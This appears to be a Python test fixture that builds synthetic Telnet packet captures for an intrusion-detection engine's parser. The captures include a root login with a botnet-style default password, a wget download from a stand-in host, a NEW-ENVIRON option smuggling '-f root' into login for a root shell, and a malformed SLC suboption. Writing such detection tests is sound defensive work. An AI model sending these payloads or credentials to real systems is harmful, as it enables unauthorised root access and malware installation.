"""Telnet sessions: rules on who does what with which answer; the records."""
import packets

SETTINGS = ['compat=native', 'app-layer.protocols.telnet.prompts.user.0=Kennung:', 'app-layer.protocols.telnet.answers.failure.0=Nein']
RECORDS = ('login', 'telnet')
BEGIN = [(1, b'\xff\xfd\x18\xff\xfb\x01'), (0, b'\xff\xfb\x18\xff\xfd\x01'), (1, b'\xff\xfa\x18\x01\xff\xf0'),
	(0, b'\xff\xfa\x18\x00xterm-256color\xff\xf0')]


def typed(text):
	"""Key by key, each of them shown."""
	out = []
	for key in text:
		out += [(0, bytes([key])), (1, bytes([key]))]
	return out


def session():
	talk = BEGIN + [(1, b'box login: ')] + typed(b'anna') + [(0, b'\r\0'), (1, b'\r\nPassword: ')]
	talk += [(0, b'wrong horse\r\0'), (1, b'\r\nLogin incorrect\r\nbox login: ')] + typed(b'root') + [(0, b'\r\0'), (1, b'\r\nPassword: ')]
	talk += [(0, b'vizxv\r\0'), (1, b'\r\n# ')] + typed(b'wget http://192.0.2.9/a') + [(0, b'\r\0'), (1, b'\r\nsaved [4711]\r\n# ')]
	return talk + typed(b'exit') + [(0, b'\r\0'), (1, b'\r\n')]


def own_words():
	return BEGIN + [(1, b'Kennung: '), (0, b'anna\r\n'), (1, b'anna\r\nPassword: '), (0, b'x\r\n'), (1, b'\r\nNein!\r\nKennung: ')]


def attacks():
	environ = [(1, b'\xff\xfd\x27'), (0, b'\xff\xfb\x27\xff\xfa\x27\0\0USER\1-f root\xff\xf0'), (1, b'\r\n# '), (0, b'id\r\n'), (1, b'uid=0\r\n# ')]
	slc = [(1, b'\xff\xfd\x22'), (0, b'\xff\xf7\xff\xfa\x22\3\x40\2\3\xff\xf0' + b'\xff\xf6' * 25), (1, b'login: ')]
	return environ, slc


def frames():
	out = packets.talk(23, session(), sport=20001) + packets.talk(2323, own_words(), sport=20002)
	for i, messages in enumerate(attacks()):
		out += packets.talk(23, messages, sport=20003 + i)
	return packets.timed(out)
